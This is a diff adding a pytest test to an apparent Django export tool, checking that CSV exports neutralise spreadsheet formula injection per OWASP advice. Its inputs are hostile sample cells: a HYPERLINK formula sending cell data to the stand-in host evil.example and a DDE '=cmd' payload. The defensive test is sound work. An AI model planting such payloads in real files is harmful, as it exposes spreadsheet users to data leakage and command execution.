@@ -212,3 +212,35 @@ def test_command_rejects_unknown_project_and_missing_folder(world, tmp_path: Pat
     out = io.StringIO()
     call_command("export_labels", "--project", world.project.slug, "--format", "jsonl", stdout=out)
     assert len(out.getvalue().splitlines()) == len(world.clips) + 3
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"open").wav', "+1+2.wav", "-2+3.wav", "@SUM(A1).wav"],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
+    tmp_path: Path, fast_passwords: None, name: str
+) -> None:
+    """OWASP's CSV injection advice: a leading quote in the CSV; the JSON Lines export stays raw."""
+    from quality.export import export_chunks
+
+    project = ProjectFactory()
+    ClipFactory(
+        project=project,
+        external_id=name,
+        status=Clip.Status.FAILED,
+        error="\t=cmd|' /C calc'!A0",
+        duration_s=None,
+    )
+    ClipFactory(project=project, external_id="plain-name.wav")
+    rows = list(label_export_rows(project=project))
+    text = "".join(export_chunks(rows, "csv"))
+    by_id = {r["refrain_id"]: r for r in csv.DictReader(io.StringIO(text))}
+    hostile, plain = (by_id[str(r["refrain_id"])] for r in rows)
+    assert hostile["clip_id"] == "'" + name
+    assert hostile["error"] == "'\t=cmd|' /C calc'!A0"
+    assert plain["clip_id"] == "plain-name.wav"  # ordinary cells are untouched
+    for row in csv.DictReader(io.StringIO(text)):
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+    raw = [json.loads(line) for line in "".join(export_chunks(rows, "jsonl")).splitlines()]
+    assert raw[0]["clip_id"] == name and raw[0]["error"].startswith("\t=")
